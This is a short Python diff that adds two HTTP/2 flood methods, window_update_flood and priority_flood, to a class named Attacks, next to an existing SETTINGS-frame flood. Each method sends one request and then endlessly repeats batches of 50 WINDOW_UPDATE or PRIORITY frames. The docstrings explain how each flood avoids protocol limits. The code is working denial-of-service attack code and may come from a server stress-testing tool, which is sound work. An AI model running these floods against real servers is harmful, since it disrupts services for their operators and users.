@@ -21,6 +21,7 @@ from hyperframe.frame import (
     GoAwayFrame,
     HeadersFrame,
     PingFrame,
+    PriorityFrame,
     RstStreamFrame,
     SettingsFrame,
     WindowUpdateFrame,
@@ -114,6 +115,18 @@ class Attacks:
         for count in itertools.count():
             frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 - count % 2})
             yield frame.serialize() * 50
+
+    def window_update_flood(self):
+        """One octet at a time, so that the window never overflows."""
+        yield self.request(1)
+        for _ in itertools.count():
+            yield WindowUpdateFrame(0, window_increment=1).serialize() * 50
+
+    def priority_flood(self):
+        """Deprecated (RFC 9113 §5.3), and read all the same."""
+        yield self.request(1)
+        for _ in itertools.count():
+            yield PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * 50
 
     def empty_data(self):
         yield self.request(1, OPEN)
